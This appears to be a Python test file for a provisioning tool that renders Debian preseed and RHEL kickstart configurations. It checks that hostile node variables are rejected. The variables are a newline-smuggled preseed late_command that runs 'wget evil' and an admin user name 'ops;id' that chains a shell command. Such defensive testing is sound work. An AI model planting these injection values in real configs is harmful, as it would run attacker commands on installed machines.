"""A hostile variable through the whole path (issue 12, item 13): set on a node through the
service, then `dgxie render` gives one error line and no config (both databases)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from dgxie.context import Context
from tests.support.lifecycle import enroll


def test_render_refuses_a_preseed_var_that_would_add_a_line(cli: Callable[..., Any], ctx: Context) -> None:
    enroll(ctx, os="debian", node_vars={"late_commands": ["true\nd-i preseed/late_command string wget evil"]})
    r = cli("render", "dgx01", "preseed")
    assert r.code == 1 and r.out == "", r.out
    assert r.err == ("dgxie: error: debian/preseed.j2 (preseed): late_commands: contains a newline (from the node "
                     "layer): every value in a preseed must fit on one line; refused\n")
    enroll(ctx, "rh01", "aa:bb:cc:00:00:02", os="rhel", node_vars={"admin_user": "ops;id"})
    r = cli("render", "rh01", "kickstart")
    assert r.code == 1 and r.out == "" and r.err.count("\n") == 1 and "admin_user: 'ops;id' is not a user name" in r.err
